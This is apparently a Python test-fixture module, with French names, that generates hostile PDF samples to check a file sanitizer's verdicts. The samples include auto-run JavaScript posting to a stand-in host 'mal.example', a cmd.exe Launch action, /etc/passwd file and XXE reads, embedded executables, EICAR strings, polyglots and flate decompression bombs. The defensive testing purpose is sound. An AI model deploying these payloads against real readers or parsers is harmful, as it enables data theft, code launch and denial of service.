"""PDFs that are cut, locked, endless, or that would do something when they are opened."""

import io
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from . import fichiers as f
from .clamav import EICAR
from .hostiles import GARDE, INFECTE, Hostile, coupes, hostile, retournes

JS = "app.alert('vous êtes piégé'); this.submitForm('http://mal.example/');"


def _fait(changer: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    sortie = io.BytesIO()
    with pikepdf.new() as document:
        page = document.add_blank_page()
        page.Contents = Stream(document, b"0.5 g 20 20 200 300 re f\n" * 40)
        changer(document)
        document.save(sortie, deterministic_id=not options, **options)
    return sortie.getvalue()


def table() -> Iterator[Hostile]:
    entier = _fait(lambda _: None)
    for coupe, reste in coupes(entier, 16):
        # A reader mends a PDF whose end is missing when its pages can be found again.
        yield hostile(f"pdf coupé à {coupe}", "a.pdf", reste, "illisible", "vide", "type_refuse", GARDE)
    for rang, copie in retournes(entier, 16, graine=10):
        yield hostile(f"pdf aux octets retournés {rang}", "a.pdf", copie, "illisible", "vide", "mot_de_passe", GARDE)
    yield from _verrouilles()
    yield from _actifs()
    yield from _tordus()
    yield from _doubles()
    yield from _infectes()


def _verrouilles() -> Iterator[Hostile]:
    for revision in (2, 3, 4, 6):
        cle = pikepdf.Encryption(owner="b", user="a", R=revision, metadata=revision > 3, aes=revision > 3)
        yield hostile(f"pdf à mot de passe, révision {revision}", "a.pdf", _fait(_rien, encryption=cle), "mot_de_passe")
    cle = pikepdf.Encryption(owner="b", user="", allow=pikepdf.Permissions(extract=False))
    yield hostile("pdf que l'on peut lire mais pas copier", "a.pdf", _fait(_rien, encryption=cle), GARDE)
    autre = _fait(_rien, encryption=pikepdf.Encryption(owner="b", user="a")).replace(b"/Standard", b"/Inconnue")
    yield hostile("pdf au chiffrement inconnu", "a.pdf", autre, "illisible", "mot_de_passe")


def _rien(document: pikepdf.Pdf) -> None:
    pass


def _action(document: pikepdf.Pdf, **action: Any) -> Dictionary:
    return document.make_indirect(Dictionary(Type=Name.Action, **action))


def _actifs() -> Iterator[Hostile]:
    """Kept, since staff only look at pictures of their pages."""
    actions: dict[str, dict[str, Any]] = {
        "javascript": {"S": Name.JavaScript, "JS": String(JS)},
        "lancement d'un programme": {"S": Name.Launch, "F": String("C:\\Windows\\System32\\cmd.exe")},
        "adresse": {"S": Name.URI, "URI": String("javascript:alert(1)")},
        "adresse de fichier": {"S": Name.URI, "URI": String("file:///etc/passwd")},
        "envoi de formulaire": {"S": Name.SubmitForm, "F": String("http://mal.example/"), "Flags": 4},
        "saut dans un autre fichier": {
            "S": Name.GoToR,
            "F": String("\\\\mal.example\\partage\\a.pdf"),
            "D": Array([0]),
        },
        "saut dans un fichier joint": {"S": Name.GoToE, "D": Array([0])},
        "import de données": {"S": Name.ImportData, "F": String("http://mal.example/a.fdf")},
        "son": {"S": Name.Sound},
        "rendu": {"S": Name.Rendition, "JS": String(JS)},
    }
    for titre, action in actions.items():
        yield hostile(f"pdf : {titre} à l'ouverture", "a.pdf", _fait(partial(_a_l_ouverture, action=action)), GARDE)
        yield hostile(f"pdf : {titre} sur un lien", "a.pdf", _fait(partial(_sur_un_lien, action=action)), GARDE)
    for titre, changer in (
        ("javascript nommé", _javascript_nomme),
        ("javascript à chaque page", _a_chaque_page),
        ("formulaire XFA", _xfa),
        ("vidéo et contenu riche", _riche),
    ):
        yield hostile(f"pdf : {titre}", "a.pdf", _fait(changer), GARDE)

    joint = _fait(lambda d: _joindre(d, "facture.exe", b"MZ" + b"\0" * 200))
    yield hostile("pdf : programme joint", "a.pdf", joint, "pieces_jointes")
    yield hostile("pdf : programme épinglé sur une page", "a.pdf", _fait(_epingler), "pieces_jointes")


def _a_l_ouverture(document: pikepdf.Pdf, action: dict[str, Any]) -> None:
    document.Root.OpenAction = _action(document, **action)


def _sur_un_lien(document: pikepdf.Pdf, action: dict[str, Any]) -> None:
    lien = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 800]), A=_action(document, **action))
    document.pages[0].Annots = Array([document.make_indirect(lien)])


def _javascript_nomme(document: pikepdf.Pdf) -> None:
    script = _action(document, S=Name.JavaScript, JS=Stream(document, JS.encode()))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))


def _a_chaque_page(document: pikepdf.Pdf) -> None:
    script = _action(document, S=Name.JavaScript, JS=String(JS))
    document.pages[0].AA = Dictionary(O=script, C=script)
    document.Root.AA = Dictionary(WC=script, WS=script, DS=script, WP=script, DP=script)


def _xfa(document: pikepdf.Pdf) -> None:
    xdp = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]></xdp:xdp>"
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(document, xdp))
    document.Root.NeedsRendering = True


def _joindre(document: pikepdf.Pdf, nom: str, octets: bytes) -> None:
    document.attachments[nom] = octets


def _epingler(document: pikepdf.Pdf) -> None:
    fichier = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=Stream(document, b"MZ" + EICAR)))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=fichier)
    document.pages[0].Annots = Array([document.make_indirect(note)])


def _riche(document: pikepdf.Pdf) -> None:
    riche = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=Dictionary())
    document.pages[0].Annots = Array([document.make_indirect(riche)])


def _tordus() -> Iterator[Hostile]:
    """Trees that bite their tail, pages without a size, numbers out of every bound."""
    refus = ("illisible", "vide", "trop_de_pages", "trop_complexe")
    for titre, octets in (
        ("pages qui se contiennent", _a_la_main(b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")),
        ("pages comptées deux milliards", _a_la_main(b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>")),
        ("pages en nombre négatif", _a_la_main(b"<< /Type /Pages /Kids [3 0 R] /Count -1 >>")),
        ("mille fois la même page", _a_la_main(b"<< /Type /Pages /Kids [%s] /Count 1000 >>" % (b"3 0 R " * 1000))),
        ("pages qui ne sont pas une liste", _a_la_main(b"<< /Type /Pages /Kids 42 /Count 1 >>")),
        ("racine absente", b"%PDF-1.7\ntrailer << /Root 99 0 R >>\n%%EOF"),
        ("tableaux imbriqués cent mille fois", _a_la_main(b"[" * 100_000 + b"]" * 100_000)),
        ("dictionnaires imbriqués cent mille fois", _a_la_main(b"<</A" * 100_000 + b">>" * 100_000)),
        ("table des objets qui se précède", _a_la_main(_PAGES).replace(b"trailer <<", b"trailer << /Prev 9 ")),
        ("table des objets de taille négative", _a_la_main(_PAGES).replace(b"/Size 5", b"/Size -5")),
        ("table des objets de taille énorme", _a_la_main(_PAGES).replace(b"/Size 5", b"/Size 2147483647")),
        ("longueur de flux fausse", _fait(_rien).replace(b"/Length ", b"/Length 99999")),
        ("filtre inconnu", _fait(_rien).replace(b"/FlateDecode", b"/Inconnu____")),
        ("cinq cent une pages", _pages(501)),
        ("sans page", _pages(0)),
    ):
        yield hostile(f"pdf : {titre}", "a.pdf", octets, GARDE, *refus)
    for cadre in ("[0 0 0 0]", "[0 0 -9 -9]", "[0 0 1e38 1e38]", "[0 0 0.0001 9999]", "[a b c d]", "[9]", "null"):
        page = f"<< /Type /Page /Parent 2 0 R /MediaBox {cadre} /Contents 4 0 R >>".encode()
        yield hostile(f"pdf : page de cadre {cadre}", "a.pdf", _a_la_main(_PAGES, page), GARDE, *refus)
    contenu = b"q " * 200_000
    yield hostile("pdf : dessin sans fin de parenthèses", "a.pdf", _a_la_main(_PAGES, contenu=contenu), GARDE)


_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R >>"


def _a_la_main(pages: bytes, page: bytes = _PAGE, contenu: bytes = b"0 g", genre: bytes = b"") -> bytes:
    """A PDF written object by object, as no library would write it."""
    objets = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        pages,
        page,
        b"<< %s /Length %d >>\nstream\n%s\nendstream" % (genre, len(contenu), contenu),
    ]
    sortie, places = b"%PDF-1.7\n", []
    for numero, objet in enumerate(objets, 1):
        places.append(len(sortie))
        sortie += b"%d 0 obj\n%s\nendobj\n" % (numero, objet)
    table_des_objets = b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % p for p in places)
    return sortie + table_des_objets + b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(sortie)


def _pages(nombre: int) -> bytes:
    sortie = io.BytesIO()
    with pikepdf.new() as document:
        for _ in range(nombre):
            document.add_blank_page()
        document.save(sortie)
    return sortie.getvalue()


def _doubles() -> Iterator[Hostile]:
    entier = _fait(_rien)
    page = b"<html><script>alert(1)</script></html>"
    for titre, octets in (
        ("suivi d'un zip", entier + f.archive({"a.exe": b"MZ"})),
        ("suivi d'un png", entier + f.image("PNG")),
        ("suivi d'une page", entier + page),
        ("suivi d'un autre pdf à mot de passe", entier + f.pdf_chiffre()),
        ("précédé de blancs", b"\r\n\t " * 5 + entier),
    ):
        yield hostile(f"pdf {titre}", "a.pdf", octets, GARDE, "illisible", "mot_de_passe")
    for titre, octets in (
        ("précédé d'un programme", b"MZ" + b"\0" * 200 + entier),
        ("précédé d'une page", page + entier),
        ("précédé d'une ligne", b"ligne\n" + entier),
        ("d'une signature seule", b"%PDF-"),
    ):
        yield hostile(f"pdf {titre}", "a.pdf", octets, "type_refuse", "illisible")
    yield hostile("pdf précédé d'un png", "a.png", f.image("PNG") + entier, GARDE)


def _infectes() -> Iterator[Hostile]:
    def montrer(document: pikepdf.Pdf) -> None:
        document.Root.Virus = Stream(document, EICAR)

    yield hostile("virus joint à un pdf", "a.pdf", _fait(lambda d: _joindre(d, "virus.com", EICAR)), "pieces_jointes")
    yield hostile("virus dans un flux comprimé de pdf", "a.pdf", _fait(montrer), INFECTE)
    yield hostile("virus dans un flux de pdf", "a.pdf", _fait(montrer, compress_streams=False), INFECTE)
    yield hostile("virus après un pdf", "a.pdf", _fait(_rien) + EICAR, INFECTE)


def lourds() -> Iterator[Hostile]:
    """Flate bombs, drawn or read until the child is ended."""
    milliard = _compresser(1_000_000_000)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R >>"
    contenu = _a_la_main(_PAGES, page, milliard, b"/Filter /FlateDecode")
    yield hostile("pdf au dessin qui se gonfle", "a.pdf", contenu, GARDE, "trop_complexe", "illisible")
    double = _a_la_main(_PAGES, page, zlib.compress(milliard, 9), b"/Filter [/FlateDecode /FlateDecode]")
    yield hostile("pdf au dessin qui se gonfle deux fois", "a.pdf", double, GARDE, "trop_complexe", "illisible")
    image = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R "
        b"/Resources << /XObject << /X 4 0 R >> >> >>"
    )
    genre = (
        b"/Subtype /Image /Width 30000 /Height 30000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode"
    )
    photo = _a_la_main(_PAGES, image, _compresser(900_000_000), genre)
    yield hostile("pdf à l'image de 30 000²", "a.pdf", photo, GARDE, "trop_complexe", "illisible")
    genre = b"/Type /ObjStm /N 100000 /First 100 /Filter /FlateDecode"
    objets = _a_la_main(_PAGES, page, milliard, genre)
    yield hostile("pdf aux objets qui se gonflent", "a.pdf", objets, GARDE, "trop_complexe", "illisible")
    yield hostile(
        "pdf aux dessins par milliers", "a.pdf", _a_la_main(_PAGES, page, b"0 0 m 200 300 l S\n" * 250_000), GARDE
    )
    lui_meme = image.replace(b"200 300", b"99 99")
    contenu = b"/X Do " * 500
    yield hostile(
        "pdf : dessin qui se contient",
        "a.pdf",
        _a_la_main(_PAGES, lui_meme, contenu, b"/Subtype /Form"),
        GARDE,
        "trop_complexe",
    )


def _compresser(zeros: int) -> bytes:
    compresseur, sortie = zlib.compressobj(9), []
    for _ in range(zeros // 1_000_000):
        sortie.append(compresseur.compress(b"\0" * 1_000_000))
    return b"".join([*sortie, compresseur.flush()])
